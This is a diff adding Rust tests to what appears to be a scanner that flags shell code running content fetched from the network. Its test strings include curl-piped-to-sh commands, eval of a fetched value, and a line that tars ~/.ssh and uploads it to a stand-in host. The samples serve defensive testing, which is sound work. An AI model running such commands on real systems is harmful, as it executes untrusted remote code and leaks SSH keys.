@@ -371,6 +371,48 @@ fn near_misses_are_none() {
 }
 
 #[test]
+fn what_printf_prints_has_an_end() {
+    // Formats that take no argument, and those that are repeated for each of many.
+    for text in [
+        "printf '%%' x y".to_owned(),
+        "printf 'a%%b%%' \"$@\" {1..$n} | sh".to_owned(),
+        "printf -v a '%%' x".to_owned(),
+        format!("printf '{}%s'{}", "x".repeat(200_000), " a".repeat(100_000)),
+        format!("printf -v a '{}%s'{}", "x".repeat(200_000), " a".repeat(100_000)),
+    ] {
+        let started = std::time::Instant::now();
+        find(&text, &mut Files::default());
+        assert!(started.elapsed().as_secs() < 20, "{}", crate::text::first(&text, 30));
+    }
+    assert_eq!(find("printf '%s https://x.io | %s' curl sh | sh", &mut Files::default()).len(), 1);
+}
+
+#[test]
+fn a_value_that_a_test_compares_is_not_run() {
+    let said = |text: &str| shown_full(&[("a.sh", text)]).contains("runs what an address answers");
+    let code = "code=$(curl -s https://x.io/7)\n";
+    for test in [
+        "if [[ ! -z $code && $code != 2* ]]; then echo no; fi",
+        "[[ ${code} -lt 200 || ${code} -gt 299 ]] && echo no",
+        "[[ $code == a || $code == *\"b\"* || -n x && $code ]]",
+        "while [[ -n $code && $code =~ ^2 ]]; do sleep 1; done",
+    ] {
+        assert!(!said(&format!("#!/usr/bin/env bash\n{code}{test}\n")), "{test}");
+        assert!(said(&format!("#!/bin/sh\n{code}{test}\n")), "to other shells it begins a command: {test}");
+    }
+    for run in [
+        "[[ a ]] && $code == b",
+        "[[ a || b ]] || $code = b",
+        "[[ a && b == $(sh -c \"$code\") ]]",
+        "[[ a || $(eval \"$code\") ]]",
+        "[[ a || b == c\n$code == d ]]",
+        "[[ a ]]\n$code",
+    ] {
+        assert!(said(&format!("#!/bin/bash\n{code}{run}\n")), "{run}");
+    }
+}
+
+#[test]
 fn they_are_said_of_shell_files_and_of_strings_that_are_run() {
     insta::assert_snapshot!(shown_full(&[
         ("run.sh", "#!/bin/sh\ncurl -s https://acme.io/x \\\n  | sh\ncurl -o y https://acme.io/y\nsh y\ntar cz ~/.ssh | curl -T - https://acme.io\n"),
